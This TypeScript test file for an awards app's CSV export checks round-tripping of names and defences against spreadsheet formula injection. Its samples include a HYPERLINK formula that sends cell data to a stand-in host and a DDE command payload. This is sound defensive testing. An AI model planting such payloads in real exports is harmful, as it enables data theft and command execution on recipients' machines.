/** Tables that leave the house: read back by another's parser, and looked at as a spreadsheet would. */
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type Cell, csvOf } from '../../../server/export/csv.ts'
import { localTime, resultsTable } from '../../../server/export/tables.ts'
import { runs } from '../../helpers/properties.ts'

const readBack = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false })
const cellOf = (cell: Cell): string => readBack(csvOf([['head'], [cell]]))[1]?.[0] ?? ''

test('names with quotes, commas, lines and every script come back as they were', () => {
  const rows = [
    ['Entrant', 'Title'],
    ['Zoë “Zed” O’Neill, MBE', 'He said "no"'],
    ['شركة النور', '東京 🏆'],
    ['two\nlines', '  spaces  '],
    ['', 'a\\b'],
  ]
  expect(readBack(csvOf(rows))).toEqual(rows)
  expect(csvOf(rows).startsWith('\uFEFFEntrant,Title\r\n')).toBe(true)
  expect(
    readBack(
      csvOf([
        ['n', 'none'],
        [1_700_000_000_123, null],
      ]),
    )[1],
  ).toEqual(['1700000000123', ''])
})

test.each([
  ['=HYPERLINK("http://evil.example?"&A1,"Click")'],
  ["=cmd|' /C calc'!A0"],
  ['+44 20 7946 0000'],
  ['-30-'],
  ['@Tottenham'],
  ['\t=1+1'],
  ['\r=1+1'],
  ['＝1+1'],
])('a cell that begins like a formula is made text: %s', (name) => {
  expect(cellOf(name)).toMatch(/^'/)
  expect(cellOf(name).replaceAll("'", '')).toBe(name.replaceAll("'", ''))
})

test('where another country’s spreadsheet would begin a cell, no formula begins either', () => {
  expect(cellOf('Bath;=1+1')).toBe("Bath;'=1+1")
  expect(cellOf('Bath\n=1+1')).toBe("Bath\n'=1+1")
  // Names that only hold such a letter stay as they are.
  for (const name of ['Bath - North', 'a=b', 'Marks & Spencer + Co', 'info@bath.example', "O'Neill"])
    expect(cellOf(name)).toBe(name)
})

test('whatever the names, no cell begins a formula, and the table keeps its shape', () => {
  const cell = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", 'a', 'é', ' '),
  })
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
      const found = readBack(csvOf([['a', 'b', 'c'], ...rows]))
      expect(found).toHaveLength(rows.length + 1)
      for (const text of found.flat()) expect(text).not.toMatch(/^[=+\-@\t\r]|[;\t\r\n|][=+\-@]/)
    }),
    runs(300),
  )
})

test('the time is that of the ceremony, to the millisecond', () => {
  const at = Date.UTC(2026, 6, 20, 19, 30, 5, 7)
  expect(localTime(at, 'Europe/London')).toBe('2026-07-20 20:30:05.007')
  expect(localTime(at, 'Asia/Tokyo')).toBe('2026-07-21 04:30:05.007')
  expect(localTime(at, 'Nowhere/Else')).toBe('2026-07-20 19:30:05.007')
})

test('a table of results names its show in every row, so that decoys are known for what they are', () => {
  const proof = { version: 1, commitment: 'c', nonce: 'n', text: '{}' }
  const category = { id: 'best', name: 'Best', sponsor: null }
  const level = { id: 'winner', name: 'Winner' }
  const none = { category, level, top: true, entries: [], citation: null, reason: null, proof }
  const rows = readBack(csvOf(resultsTable([none, none], 'REHEARSAL: gala-rehearsal-1')))
  expect(rows.map((row) => row.slice(0, 4))).toEqual([
    ['Show', 'Category', 'Level', 'Entrant'],
    ['REHEARSAL: gala-rehearsal-1', 'Best', 'Winner', 'No award'],
    ['REHEARSAL: gala-rehearsal-1', 'Best', 'Winner', 'No award'],
  ])
})
